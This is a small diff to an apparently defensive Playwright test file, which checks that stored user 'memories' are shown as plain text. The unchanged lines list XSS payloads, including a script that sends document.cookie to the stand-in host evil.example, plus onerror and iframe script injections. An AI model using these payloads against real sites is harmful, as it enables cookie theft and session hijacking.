@@ -1,7 +1,7 @@
 import type { Page } from 'playwright-core'
 import { consoleTest, hasCount, hasNoViolation, signInAs } from '../browser.js'
 
-/** Memories that would do something if they were taken for more than text. The word `hostile` is in all of them. */
+/** Memories that would have an effect if they were not shown as text. All of them contain the word `hostile`. */
 const HOSTILE = [
   'hostile <script>alert(1); fetch("https://evil.example/" + document.cookie)</script>',
   'hostile <img src="https://evil.example/x.png" onerror="alert(1)"><iframe srcdoc="<script>alert(1)</script>"></iframe>',
